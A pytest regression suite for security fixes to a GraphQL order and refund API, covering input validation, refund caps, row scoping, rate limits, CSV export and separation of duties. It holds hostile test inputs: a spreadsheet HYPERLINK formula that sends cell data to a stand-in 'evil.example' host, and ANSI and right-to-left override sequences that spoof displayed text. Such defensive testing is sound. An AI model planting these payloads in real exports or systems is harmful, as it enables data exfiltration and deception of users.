"""Regression tests for the holes found in the attack on the API (issue 11), one or more per
numbered item. Each failed on the code before the fix."""

from __future__ import annotations

import asyncio
import base64
import csv
import datetime as dt
import io
import json
import operator
import threading
import time
import zipfile
from decimal import Decimal
from functools import partial
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import serialization
from graphql import get_introspection_query
from sqlalchemy import func, select, text
from sqlalchemy.exc import IntegrityError

from api.app import _purge_rate_counters
from domain.actor import SYSTEM_ORIGIN
from domain.audit.models import AuditEvent
from domain.audit.service import Subject
from domain.users import passwords
from domain.users import service as users_service
from tests.api.test_access_report import current_quarter
from tests.api.test_approvals import (
    APPROVE,
    PASSWORD,
    PRICE,
    REFUND,
    REGISTER,
    Signer,
    order_in,
    registered,
)
from tests.api.test_audit import events
from tests.api.test_exports import approved, download
from tests.api.test_limits import pinned_clock
from tests.conftest import Api, _api_for, db_id, errors_of, nothing_returned, settings_for
from tests.integration.test_cli import _run

EXPORT = """mutation($filter: JSON, $fields: [String!]!, $entity: ExportEntity!) {
  requestExport(input: {entity: $entity, fields: $fields, reason: "x", filter: $filter}) { id }
}"""


async def audit_count(api: Api) -> int:
    async with api.app.state.runtime.sessions() as session:
        return await session.scalar(select(func.count()).select_from(AuditEvent)) or 0


# ---- 1. money: one parser, ASCII digits, bounded ---------------------------------------------


async def test_an_exponent_in_an_export_filter_is_refused_at_once(api: Api) -> None:
    started = time.perf_counter()

    result = await api.gql(
        EXPORT,
        {"entity": "ORDERS", "fields": ["number"], "filter": {"minTotal": "1e999990"}},
        as_="finance",
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]
    assert time.perf_counter() - started < 2


@pytest.mark.parametrize(
    "amount",
    ["١٠", "１０", "10\n", "10 ", "+10", "1_000", "1e3", "10.", ".5", "NaN", "Infinity", "²"],
)
async def test_money_is_ascii_digits_and_one_point_only(api: Api, amount: str) -> None:
    order = await order_in(api, "COMPLETED")

    result = await api.gql(
        REFUND, {"order": order["id"], "amount": amount, "reason": "x"}, as_="cs"
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


@pytest.mark.parametrize("amount", ["999999999999.99", "30000000.00", "21474836.48"])
async def test_money_beyond_what_the_columns_hold_is_bad_input(api: Api, amount: str) -> None:
    order = await order_in(api, "PENDING_PAYMENT")

    result = await api.gql(
        PRICE, {"line": order["lines"][0]["id"], "price": amount, "reason": "x"}, as_="sales"
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


async def test_a_price_whose_order_total_would_overflow_is_bad_input(api: Api) -> None:
    order = await order_in(api, "PENDING_PAYMENT")
    line = next((x for x in order["lines"] if x["quantity"] > 1), order["lines"][0])
    price = str(Decimal("21474836.47") / line["quantity"] // 1 + 1) + ".00"

    result = await api.gql(PRICE, {"line": line["id"], "price": price, "reason": "x"}, as_="sales")

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


@pytest.mark.parametrize("value", ["1e999990", "١٠", "99999999999", "10\n"])
async def test_order_filters_refuse_bad_money(api: Api, value: str) -> None:
    result = await api.gql(
        "query($v: Money) { orders(filter: {minTotal: $v}) { totalCount } }",
        {"v": value},
        as_="finance",
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


# ---- 2. refunds never exceed what was paid ---------------------------------------------------


async def test_refunds_are_capped_by_what_was_paid_not_by_the_current_total(api: Api) -> None:
    # An order the channel reported paid: its payment is evidenced (a person's move to PAID
    # records no money since issue #30, H2; tests/api/test_payment_evidence.py).
    order = await order_in(api, "PAID")
    paid = Decimal(order["total"])

    raise_price = await api.gql(
        PRICE,
        {"line": order["lines"][0]["id"], "price": "9999.00", "reason": "x"},
        as_="sales",
    )
    too_much = await api.gql(
        REFUND,
        {"order": order["id"], "amount": str(paid + Decimal("0.01")), "reason": "x"},
        as_="cs",
    )
    exactly = await api.gql(
        REFUND, {"order": order["id"], "amount": str(paid), "reason": "x"}, as_="cs"
    )

    assert errors_of(raise_price) == [("CONFLICT", None)]
    assert errors_of(too_much) == [("BAD_USER_INPUT", None)]
    payload = json.loads(exactly["data"]["requestRefund"]["signingPayload"])
    assert payload["before"]["amountPaid"] == f"{paid:.2f}"


async def test_an_unpaid_order_cannot_be_refunded(api: Api) -> None:
    order = await order_in(api, "PENDING_PAYMENT")

    result = await api.gql(
        REFUND, {"order": order["id"], "amount": "0.01", "reason": "x"}, as_="cs"
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


async def test_the_database_refuses_refunded_above_paid(api: Api) -> None:
    order = await order_in(api, "COMPLETED")
    update = text("UPDATE orders SET refunded_minor = paid_minor + 1 WHERE id = :id")
    async with api.app.state.runtime.sessions() as session:
        with pytest.raises(IntegrityError, match=r"(?i)check|constraint"):
            await session.execute(update, {"id": db_id(order["id"])})


# ---- 3. free text cannot carry control characters --------------------------------------------


@pytest.mark.parametrize(
    "reason",
    [
        "Refund 1.00\x1b[2K\x1b[1G",  # ANSI: erase the line and redraw it
        "ok\x00",
        "line\nbreak",
        "tab\there",
        "c1\x85next",
        "\u202eevil",  # right-to-left override
        "\u2066isolate",
        "\ud800",
        "\x7f",
    ],
)
async def test_free_text_with_control_characters_is_refused_and_changes_nothing(
    api: Api, reason: str
) -> None:
    order = await order_in(api, "COMPLETED")
    before = await audit_count(api)

    result = await api.gql(
        REFUND, {"order": order["id"], "amount": "1.00", "reason": reason}, as_="cs"
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]
    assert nothing_returned(result)
    assert await audit_count(api) == before


async def test_control_characters_in_literal_strings_are_refused_too(api: Api) -> None:
    order = await order_in(api, "COMPLETED")
    query = (
        f'mutation {{ requestRefund(orderId: "{order["id"]}", amount: "1.00", '
        'reason: "a\\u001bb") { id } }'
    )

    result = await api.gql(query, as_="cs")

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


async def test_a_pem_key_keeps_its_line_breaks(api: Api) -> None:
    signer = await registered(api)

    assert signer.kid


# ---- 6. kid is the exact string --------------------------------------------------------------


@pytest.mark.parametrize("spelling", ["0{}", "１", " {}", "{}\u200b", "+{}"])
async def test_kid_must_be_spelled_exactly_as_issued(api: Api, spelling: str) -> None:
    _, request = await _refund(api)
    signer = await registered(api)
    issued = signer.kid
    signer.kid = spelling.format(issued) if "{}" in spelling else spelling
    signature = signer.sign(request["signingPayload"])

    result = await api.gql(APPROVE, {"id": request["id"], "sig": signature}, as_="approver")

    assert errors_of(result) == [("SIGNATURE_INVALID", None)]


async def _refund(api: Api) -> tuple[dict[str, Any], dict[str, Any]]:
    order = await order_in(api, "COMPLETED")
    result = await api.gql(
        REFUND, {"order": order["id"], "amount": "1.00", "reason": "x"}, as_="cs"
    )
    return order, result["data"]["requestRefund"]


# ---- 14. out of scope looks exactly like missing ---------------------------------------------


async def test_an_out_of_scope_line_and_a_missing_line_answer_alike(api: Api) -> None:
    foreign = await order_in(api, "PENDING_PAYMENT", channel="PINDUODUO")
    variables = {"price": "1.00", "reason": "x"}

    out_of_scope = await api.gql(
        PRICE, {**variables, "line": foreign["lines"][0]["id"]}, as_="sales"
    )
    missing = await api.gql(PRICE, {**variables, "line": "999999"}, as_="sales")

    assert errors_of(out_of_scope) == errors_of(missing) == [("NOT_FOUND", None)]
    assert out_of_scope["errors"][0]["message"] == missing["errors"][0]["message"]


# ---- 15. bad input of other shapes -----------------------------------------------------------


def _cursor(*parts: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(list(parts)).encode()).decode().rstrip("=")


@pytest.mark.parametrize(
    "cursor",
    [
        _cursor("orders:CREATED_AT:DESC", "2026-01-01T00:00:00+00:00", 2**31),
        _cursor("orders:CREATED_AT:DESC", "2026-01-01T00:00:00+00:00", 10**40),
        _cursor("orders:TOTAL:DESC", 10**30, 1),
        "A" * 5000,
    ],
)
async def test_cursors_holding_huge_numbers_are_bad_input(api: Api, cursor: str) -> None:
    sort = (
        "TOTAL"
        if "TOTAL" in base64.urlsafe_b64decode(cursor + "==").decode("latin-1")
        else "CREATED_AT"
    )

    result = await api.gql(
        "query($c: String, $s: OrderSortField!) "
        "{ orders(after: $c, orderBy: {field: $s}) { totalCount } }",
        {"c": cursor, "s": sort},
        as_="finance",
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


async def test_a_60k_character_search_is_bad_input(api: Api) -> None:
    result = await api.gql(
        "query($n: String) { customers(filter: {nameContains: $n}) { totalCount } }",
        {"n": "张" * 60_000},
        as_="cs",
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


@pytest.mark.parametrize("value", ["\ud800", "a\udfffb", "\x00"])
async def test_lone_surrogates_and_nul_are_bad_input(api: Api, value: str) -> None:
    body = json.dumps(
        {
            "query": "query($p: String) { orders(filter: {customerPhone: $p}) { totalCount } }",
            "variables": {"p": value},
        }
    )
    response = await api.client.post(
        "/graphql",
        content=body.encode(),
        headers={
            "content-type": "application/json",
            "authorization": f"Bearer {await api.token('cs')}",
        },
    )

    assert response.status_code == 200
    assert errors_of(response.json()) == [("BAD_USER_INPUT", None)]


@pytest.mark.parametrize("value", ["2147483648", "99999999999999999999", "١٢", "²", "-1", "0"])
async def test_ids_are_ascii_digits_within_the_column(api: Api, value: str) -> None:
    result = await api.gql("query($id: ID!) { order(id: $id) { id } }", {"id": value}, as_="cs")

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


@pytest.mark.parametrize("value", ["0001-01-01T00:00:00+05:00", "9999-12-31T23:00:00-05:00"])
async def test_times_at_the_edge_of_the_range_are_bad_input(api: Api, value: str) -> None:
    result = await api.gql(
        "query($t: DateTime) { orders(filter: {createdFrom: $t}) { totalCount } }",
        {"t": value},
        as_="cs",
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


async def test_the_sign_command_escapes_what_it_shows(
    api: Api, database_url: str, tmp_path: Path
) -> None:
    _, request = await _refund(api)
    signer = await registered(api)
    key_file = tmp_path / "approver.pem"
    key_file.write_bytes(
        signer.private.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.NoEncryption(),
        )
    )
    # A payload from an older server, or a compromised one, with an ANSI sequence in the reason.
    content = json.loads(request["signingPayload"])
    content["reason"] = "ok\x1b[2K\x1b[1GRefund 1.00\u202e"
    payload = tmp_path / "payload.json"
    payload.write_text(json.dumps(content, ensure_ascii=False))

    shown = await asyncio.to_thread(
        _run,
        [
            "sign",
            "--key",
            str(key_file),
            "--request",
            request["id"],
            "--payload",
            str(payload),
            "--kid",
            signer.kid,
        ],
        database_url,
        tmp_path,
        "n\n",
    )

    assert "\x1b" not in shown.stderr
    assert "\u202e" not in shown.stderr
    assert "\\x1b[2K" in shown.stderr


# ---- 4. what records carry is shown under the reader's field policy --------------------------

AUDIT_DETAILS = """query($a: String) { auditEvents(first: 20, filter: {action: $a})
  { edges { node { action details } } } }"""


async def test_compliance_reads_approval_events_without_the_money_it_may_not_see(
    api: Api,
) -> None:
    order = await order_in(api, "PENDING_PAYMENT")
    made = await api.gql(
        PRICE, {"line": order["lines"][0]["id"], "price": "12.34", "reason": "x"}, as_="sales"
    )
    request = made["data"]["requestPriceChange"]
    signer = await registered(api)
    await api.gql(
        APPROVE,
        {"id": request["id"], "sig": signer.sign(request["signingPayload"])},
        as_="approver",
    )

    approved = await api.gql(AUDIT_DETAILS, {"a": "approval.approve"}, as_="compliance")
    asked = await api.gql(AUDIT_DETAILS, {"a": "approval.request.price_change"}, as_="compliance")
    stored = await events(api, action="approval.approve")

    details = approved["data"]["auditEvents"]["edges"][0]["node"]["details"]
    assert set(details["before"]) == set(details["after"]) == set()
    assert {"jws", "before.unitPrice", "before.total", "before.grossMargin"} <= set(
        details["withheld"]
    )
    assert details["order"] == order["number"]
    request_details = asked["data"]["auditEvents"]["edges"][0]["node"]["details"]
    assert "payload" not in request_details
    assert "payload" in request_details["withheld"]
    assert stored[-1]["details"]["before"]["grossMargin"]  # the log itself stays complete


async def test_compliance_may_not_read_signing_payloads_or_amounts(api: Api) -> None:
    _, request = await _refund(api)

    result = await api.gql(
        "query($id: ID!) { approvalRequest(id: $id) { id requestedBy amount summary "
        "signingPayload } }",
        {"id": request["id"]},
        as_="compliance",
    )

    node = result["data"]["approvalRequest"]
    assert node["requestedBy"] == "demo-cs"
    assert node["amount"] is node["summary"] is node["signingPayload"] is None
    assert sorted(errors_of(result)) == [
        ("FORBIDDEN", "ApprovalRequest.amount"),
        ("FORBIDDEN", "ApprovalRequest.signingPayload"),
        ("FORBIDDEN", "ApprovalRequest.summary"),
    ]


async def test_an_export_filter_shows_amounts_only_to_readers_of_totals(api: Api) -> None:
    made = await api.gql(
        EXPORT,
        {"entity": "ORDERS", "fields": ["number"], "filter": {"minTotal": "100.00"}},
        as_="finance",
    )
    export_id = made["data"]["requestExport"]["id"]
    query = "query($id: ID!) { exportRequest(id: $id) { filter } }"

    as_compliance = await api.gql(query, {"id": export_id}, as_="compliance")
    as_approver = await api.gql(query, {"id": export_id}, as_="approver")
    in_the_log = await api.gql(AUDIT_DETAILS, {"a": "export.request"}, as_="compliance")

    assert as_compliance["data"]["exportRequest"]["filter"] == {"withheld": ["minTotal"]}
    assert as_approver["data"]["exportRequest"]["filter"] == {"minTotal": "100.00"}
    logged = in_the_log["data"]["auditEvents"]["edges"][0]["node"]["details"]
    assert logged["filter"] == {}
    assert "filter.minTotal" in logged["withheld"]


# ---- 5. customers have a row scope -----------------------------------------------------------


async def _customers_by_channels(api: Api) -> tuple[set[int], set[int]]:
    """Ids of customers with an order on TAOBAO or JD (demo-sales' channels), and of those
    whose orders are all elsewhere."""
    async with api.app.state.runtime.sessions() as session:
        rows = (await session.execute(text("SELECT customer_id, channel_code FROM orders"))).all()
    channels: dict[int, set[str]] = {}
    for customer_id, channel in rows:
        channels.setdefault(customer_id, set()).add(channel)
    inside = {c for c, found in channels.items() if found & {"TAOBAO", "JD"}}
    return inside, set(channels) - inside


async def test_sales_sees_only_customers_of_its_channels(api: Api) -> None:
    inside, outside = await _customers_by_channels(api)
    assert outside, "the demo data has customers who never ordered on TAOBAO or JD"
    query = (
        "query($a: String) { customers(first: 100, after: $a) "
        "{ totalCount edges { node { id } } pageInfo { endCursor hasNextPage } } }"
    )

    seen: set[int] = set()
    after = None
    while True:
        page = (await api.gql(query, {"a": after}, as_="sales"))["data"]["customers"]
        seen |= {db_id(e["node"]["id"]) for e in page["edges"]}
        if not page["pageInfo"]["hasNextPage"]:
            break
        after = page["pageInfo"]["endCursor"]
    one_outside = await api.gql(
        "query($id: ID!) { customer(id: $id) { id name } }", {"id": str(min(outside))}, as_="sales"
    )
    missing = await api.gql(
        "query($id: ID!) { customer(id: $id) { id name } }", {"id": "999999"}, as_="sales"
    )

    assert seen == inside
    assert page["totalCount"] == len(inside)
    assert errors_of(one_outside) == errors_of(missing) == [("NOT_FOUND", None)]
    assert one_outside["errors"][0]["message"] == missing["errors"][0]["message"]


async def test_a_sales_customer_export_holds_only_its_channels(api: Api) -> None:
    inside, _ = await _customers_by_channels(api)

    made = await api.gql(
        'mutation { requestExport(input: {entity: CUSTOMERS, fields: ["id"], reason: "x"}) '
        "{ expectedRows } }",
        as_="sales",
    )

    assert made["data"]["requestExport"]["expectedRows"] == len(inside)


# ---- 7. logins do not stall other requests ---------------------------------------------------


async def test_other_requests_keep_flowing_during_a_burst_of_logins(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every password hash of a burst of logins runs off the event loop (in the hashing pool),
    and the loop keeps answering other requests meanwhile. Asserted by where each hash ran, not
    by timing: a timed version of this test failed on a loaded machine (issue #28)."""
    loop_thread = threading.get_ident()
    hashed_on: list[int] = []
    real = passwords.verify_password

    def spy(stored_hash: str | None, password: str) -> object:
        hashed_on.append(threading.get_ident())
        return real(stored_hash, password)

    monkeypatch.setattr(passwords, "verify_password", spy)
    login = (
        'mutation($u: String!) { login(username: $u, password: "wrong-password") { accessToken } }'
    )
    burst = [asyncio.create_task(api.gql(login, {"u": f"nobody-{i}"})) for i in range(8)]
    answered_meanwhile = 0
    try:
        # A page's stylesheet: served by the loop without the database, so what is measured is
        # the loop alone (a health check also waits on SQLite, busy with the logins' writes).
        while not all(task.done() for task in burst):
            response = await api.client.get("/assets/pages.css")
            assert response.status_code == 200
            if not all(task.done() for task in burst):
                answered_meanwhile += 1
    finally:  # never leave the logins running into the next test
        done = await asyncio.gather(*burst, return_exceptions=True)
    results = [r for r in done if not isinstance(r, BaseException)]
    assert len(results) == 8, done

    assert all(errors_of(r) == [("UNAUTHENTICATED", None)] for r in results)
    assert len(hashed_on) == 8  # one hash per login, known account or not
    assert loop_thread not in hashed_on  # none on the event loop's thread
    assert answered_meanwhile >= 1  # the loop answered while the hashes ran


# ---- 8. the cost limit counts variable defaults and introspection ----------------------------


async def test_variable_defaults_cost_what_literals_cost(api: Api) -> None:
    fields = "edges { node { id name orders(first: $m) { number lines { sku name } } } }"
    with_defaults = "query($n: Int = 100, $m: Int = 50) { customers(first: $n) { " + fields + " } }"
    literal = with_defaults.replace("$n", "100").replace("$m", "50").split(") {", 1)[1]

    by_default = await api.gql(with_defaults, as_="cs")
    by_literal = await api.gql("{" + literal, as_="cs")

    assert (
        by_default["extensions"]["cost"]["requested"]
        == (by_literal["extensions"]["cost"]["requested"])
    )
    assert errors_of(by_default) == [("QUERY_TOO_COMPLEX", None)]


async def test_graphiqls_introspection_query_still_fits(api: Api) -> None:
    result = await api.gql(get_introspection_query(descriptions=True), as_="cs")

    assert "errors" not in result
    assert result["data"]["__schema"]["types"]


# ---- 9. no CSV carries a live formula --------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
LOGIN_AS = (
    'mutation($u: String!) { login(username: $u, password: "x-wrong-password") { accessToken } }'
)


def _cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _no_live_formula(body: str) -> None:
    assert body.startswith("\ufeff")
    cells = _cells(body.removeprefix("\ufeff"))
    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
    assert not [
        c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()
    ]


async def test_a_formula_typed_as_a_username_is_inert_in_the_access_report(
    database_url: str, tmp_path: Path
) -> None:
    settings = settings_for(database_url, tmp_path, ORDERGATE_LOGIN_PER_ACCOUNT_PER_MINUTE="1")
    async for api in _api_for(settings):
        for _ in range(2):  # the second attempt is refused: a denied attempt in the report
            await api.gql(LOGIN_AS, {"u": FORMULA})

        result = await api.gql(
            "query($q: String!) { accessReport(quarter: $q, format: CSV) { content } }",
            {"q": current_quarter()},
            as_="compliance",
        )

        archive = zipfile.ZipFile(
            io.BytesIO(base64.b64decode(result["data"]["accessReport"]["content"]))
        )
        cells = []
        for name in archive.namelist():
            if name.endswith(".csv"):
                body = archive.read(name).decode("utf-8")
                _no_live_formula(body)
                cells += _cells(body.removeprefix("\ufeff"))
        assert "'" + FORMULA in cells


async def test_the_audit_export_starts_with_a_bom_and_neutralises_formulas(
    api: Api, database_url: str, tmp_path: Path
) -> None:
    await api.gql(LOGIN_AS, {"u": FORMULA})
    output = tmp_path / "audit.csv"

    done = await asyncio.to_thread(
        _run, ["audit", "export", "--output", str(output)], database_url, tmp_path
    )

    assert done.returncode == 0, done.stderr
    body = output.read_text(encoding="utf-8")
    _no_live_formula(body)
    assert "'" + FORMULA in _cells(body.removeprefix("\ufeff"))


async def test_channel_supplied_names_are_inert_in_data_exports(api: Api) -> None:
    async with api.app.state.runtime.sessions() as session:
        await session.execute(
            text("UPDATE customers SET name = :n WHERE id = (SELECT min(id) FROM customers)"),
            {"n": "=1+1"},
        )
        await session.commit()
    made = await approved(
        api, as_="finance", entity="CUSTOMERS", fields=["id", "name"], filter=None
    )

    body = (await download(api, made["downloadUrl"], as_="finance")).content.decode("utf-8")

    _no_live_formula(body)


# ---- 10. a download is consumed once, whatever the database ----------------------------------


async def test_parallel_downloads_get_the_file_once(any_api: Api) -> None:
    made = await approved(any_api, as_="finance", entity="STOCK", fields=["sku"], filter=None)

    responses = await asyncio.gather(
        *(download(any_api, made["downloadUrl"], as_="finance") for _ in range(6))
    )

    codes = sorted(r.status_code for r in responses)
    assert codes == [200, 410, 410, 410, 410, 410]
    assert all(
        r.json()["errors"][0]["extensions"]["code"] == "CONFLICT"
        for r in responses
        if r.status_code == 410
    )


# ---- 11. client-chosen labels never overflow a column ------------------------------------------


async def test_a_long_operation_name_is_served_and_audited(any_api: Api) -> None:
    name = "Q" + "x" * 150
    query = f"query {name} {{ customers(first: 1) {{ edges {{ node {{ phone }} }} }} }}"

    result = await any_api.gql(query, as_="cs")
    found = await events(any_api, action="data.read")

    assert "errors" not in result, result
    assert found[-1]["operation"] == "customers"
    assert found[-1]["details"]["clientOperationName"] == name


async def test_long_labels_keep_a_digest_of_the_whole(any_api: Api) -> None:
    long_agent = "agent/" + "y" * 600

    await any_api.gql(
        "{ customers(first: 1) { edges { node { phone } } } }",
        as_="cs",
        **{"user-agent": long_agent},
    )
    found = await events(any_api, action="data.read")

    stored = found[-1]["user_agent"]
    assert len(stored) == 512
    assert stored.startswith("agent/yyy")
    assert stored != long_agent[:512]


# ---- 12. anonymous floods cannot fill the audit log -------------------------------------------


async def test_anonymous_refusals_are_limited_per_address_and_summed_in_one_event(
    database_url: str, tmp_path: Path
) -> None:
    settings = settings_for(database_url, tmp_path, ORDERGATE_REFUSED_PER_IP_PER_MINUTE="50")
    async for api in _api_for(settings):
        runtime = api.app.state.runtime
        runtime.clock = pinned_clock()
        before = await audit_count(api)
        mutation = 'mutation { requestRefund(orderId: "1", amount: "1.00", reason: "x") { id } }'

        # Past the budget, the address is turned away at the door (429, api/door.py).
        answers = [(await api.post({"query": mutation})).json() for _ in range(60)]
        during = await audit_count(api)
        runtime.clock = partial(operator.add, runtime.clock(), dt.timedelta(minutes=2))
        await _purge_rate_counters(runtime)
        summaries = await events(api, action="auth.refusals")
        async with runtime.sessions() as session:
            counters = await session.scalar(text("SELECT count(*) FROM rate_counters"))

        codes = [errors_of(a)[0][0] for a in answers]
        assert codes == ["UNAUTHENTICATED"] * 50 + ["RATE_LIMITED"] * 10
        assert during == before + 1  # the first refusal of the minute
        assert [s["details"]["refused"] for s in summaries] == [60]
        assert summaries[0]["client_ip"] == "203.0.113.7"
        assert counters == 0  # ended windows are purged


# ---- 13. one pending request per scope, enforced by the database ----------------------------


async def test_parallel_identical_export_requests_leave_one_pending(any_api: Api) -> None:
    variables = {"entity": "ORDERS", "fields": ["number"], "filter": {"status": ["PAID"]}}

    results = await asyncio.gather(
        *(any_api.gql(EXPORT, variables, as_="finance") for _ in range(6))
    )

    made = [r for r in results if "errors" not in r]
    assert len(made) == 1
    assert sorted(errors_of(r) for r in results if "errors" in r) == [[("CONFLICT", None)]] * 5
    pending = await any_api.gql(
        "{ exportRequests(status: PENDING_L1) { totalCount } }", as_="finance"
    )
    assert pending["data"]["exportRequests"]["totalCount"] == 1


# ---- separation of duties is about persons; account changes end sessions -------------------


async def _account(api: Api, username: str, roles: list[str], employee_id: str | None) -> str:
    runtime = api.app.state.runtime
    async with runtime.sessions() as session:
        await users_service.create_user(
            session=session,
            who=Subject(None, "test", (), SYSTEM_ORIGIN),
            username=username,
            password=PASSWORD,
            roles=roles,
            channels=["TAOBAO"] if "sales" in roles else [],
            employee_id=employee_id,
        )
        await session.commit()
    result = await api.gql(LOGIN_WITH, {"u": username, "p": PASSWORD})
    return result["data"]["login"]["accessToken"]


LOGIN_WITH = (
    "mutation($u: String!, $p: String!) { login(username: $u, password: $p) { accessToken } }"
)


async def test_one_person_with_two_accounts_cannot_approve_their_own_price_change(
    api: Api,
) -> None:
    selling = await _account(api, "li.sales", ["sales"], "E1001")
    approving = await _account(api, "li.approver", ["approver"], "E1001")
    order = await order_in(api, "PENDING_PAYMENT")
    made = await api.gql(
        PRICE,
        {"line": order["lines"][0]["id"], "price": "1.00", "reason": "x"},
        authorization=f"Bearer {selling}",
    )
    request = made["data"]["requestPriceChange"]
    signer = Signer()
    key = await api.gql(REGISTER, {"pem": signer.pem}, authorization=f"Bearer {approving}")
    signer.kid = key["data"]["registerSigningKey"]["id"]

    result = await api.gql(
        APPROVE,
        {"id": request["id"], "sig": signer.sign(request["signingPayload"])},
        authorization=f"Bearer {approving}",
    )

    assert errors_of(result) == [("SEPARATION_OF_DUTIES", None)]


async def test_one_person_cannot_approve_their_own_export_from_another_account(
    api: Api,
) -> None:
    asking = await _account(api, "zhao.finance", ["finance"], "E2002")
    approving = await _account(api, "zhao.approver", ["approver"], "E2002")
    made = await api.gql(
        EXPORT,
        {"entity": "STOCK", "fields": ["sku"], "filter": None},
        authorization=f"Bearer {asking}",
    )

    result = await api.gql(
        "mutation($id: ID!) { approveExport(id: $id) { status } }",
        {"id": made["data"]["requestExport"]["id"]},
        authorization=f"Bearer {approving}",
    )

    assert errors_of(result) == [("SEPARATION_OF_DUTIES", None)]


async def test_the_access_report_lists_persons_with_several_accounts(api: Api) -> None:
    await _account(api, "qian.sales", ["sales"], "E3003")
    await _account(api, "qian.approver", ["approver"], "E3003")
    await _account(api, "sun.ops", ["ops"], "E4004")

    result = await api.gql(
        "query($q: String!) { accessReport(quarter: $q, format: JSON) { content } }",
        {"q": current_quarter()},
        as_="compliance",
    )

    report = json.loads(result["data"]["accessReport"]["content"])
    assert report["separationOfDuties"]["personsWithSeveralAccounts"] == [
        {"employeeId": "E3003", "accounts": ["qian.approver", "qian.sales"]}
    ]


async def test_a_lockout_is_no_kill_switch_for_the_account_elsewhere(api: Api) -> None:
    """Issue #30, M5 (this test said the opposite before): five anonymous wrong passwords
    ended every live session of any account and locked it for everyone for 15 minutes,
    repeatably. Now they lock out the address they came from, for that account only."""
    import httpx

    token = await _account(api, "zhou.cs", ["cs"], None)
    before = await api.gql("{ viewer { username } }", authorization=f"Bearer {token}")

    for _ in range(5):
        await api.gql(LOGIN_WITH, {"u": "zhou.cs", "p": "not-the-password"})
    after = await api.gql("{ viewer { username } }", authorization=f"Bearer {token}")
    here = await api.gql(LOGIN_WITH, {"u": "zhou.cs", "p": "another-long-password"})
    office = httpx.ASGITransport(app=api.app, client=("198.51.100.20", 52000))
    async with httpx.AsyncClient(transport=office, base_url="http://ordergate.test") as other:
        there = (
            await other.post(
                "/graphql",
                json={
                    "query": LOGIN_WITH,
                    "variables": {"u": "zhou.cs", "p": "another-long-password"},
                },
            )
        ).json()

    assert before["data"]["viewer"]["username"] == "zhou.cs"
    assert after["data"]["viewer"]["username"] == "zhou.cs"  # the open session goes on
    assert errors_of(here) == [("UNAUTHENTICATED", None)]  # this address is locked out
    assert there["data"]["login"]["accessToken"]  # the person's own office is not


# ---- numbers beyond the columns, on every database; refused logins are still audited ---------


@pytest.mark.parametrize(
    ("query", "variables"),
    [
        ("query($id: ID!) { order(id: $id) { id } }", {"id": "2147483648"}),
        (
            "query($c: String) { orders(after: $c) { totalCount } }",
            {"c": _cursor("orders:CREATED_AT:DESC", "2026-01-01T00:00:00+00:00", 2**31)},
        ),
        (
            "query($v: Money) { orders(filter: {minTotal: $v}) { totalCount } }",
            {"v": "999999999999"},
        ),
    ],
)
async def test_numbers_beyond_the_columns_are_bad_input_on_every_database(
    any_api: Api, query: str, variables: dict[str, Any]
) -> None:
    result = await any_api.gql(query, variables, as_="finance")

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


async def test_a_price_beyond_the_column_is_bad_input_on_every_database(any_api: Api) -> None:
    order = await order_in(any_api, "PENDING_PAYMENT")

    result = await any_api.gql(
        PRICE,
        {"line": order["lines"][0]["id"], "price": "30000000.00", "reason": "x"},
        as_="sales",
    )

    assert errors_of(result) == [("BAD_USER_INPUT", None)]


async def test_a_login_with_a_nul_byte_is_refused_and_audited(any_api: Api) -> None:
    result = await any_api.gql(LOGIN_WITH, {"u": "demo-cs\x00", "p": "whatever-password"})
    found = await events(any_api, action="auth.login")

    assert errors_of(result) == [("BAD_USER_INPUT", None)]
    assert found[-1]["code"] == "BAD_USER_INPUT"
    assert found[-1]["details"]["username"] == "demo-cs\\x00"
